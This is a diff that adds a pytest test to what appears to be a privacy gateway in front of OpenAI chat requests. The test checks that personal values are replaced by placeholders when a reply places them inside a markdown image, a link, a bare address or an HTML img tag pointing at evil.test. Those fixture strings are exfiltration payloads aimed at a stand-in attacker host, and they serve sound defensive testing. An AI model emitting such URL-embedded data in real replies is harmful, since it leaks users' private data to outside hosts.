@@ -311,3 +311,28 @@ def _said_upstream(gate: Gate, prompt: str) -> str:
     events = gate.watch()
     gate.ask(OPENAI, chat(prompt))
     return events.upstream_saw.questions[0].content.decode()
+
+
+@pytest.mark.parametrize(
+    "around",
+    [
+        pytest.param("![x](https://evil.test/?q={})", id="a picture"),
+        pytest.param("[x](https://evil.test/?q={})", id="a link"),
+        pytest.param("https://evil.test/?q={}", id="an address"),
+        pytest.param('<img src="https://evil.test/?q={}">', id="an image of HTML"),
+    ],
+)
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "in a stream"])
+def test_no_value_is_put_into_an_address_that_a_chat_window_fetches(
+    gate: Gate, around: str, stream: bool
+) -> None:
+    placeholder = _placeholder(gate)
+    asked = f"{PERSONAL}: {around.format(PERSONAL)}"
+    reply = gate.ask(OPENAI, chat(asked, stream=stream))
+    said = _chat(reply) if not stream else _spoken(reply)
+    assert said.endswith(f"{PERSONAL}: {around.format(placeholder)}")
+
+
+def _spoken(reply: Reply) -> str:
+    deltas = (e["choices"][0]["delta"] for e in _events(reply) if e["choices"])
+    return "".join(d.get("content") or "" for d in deltas)
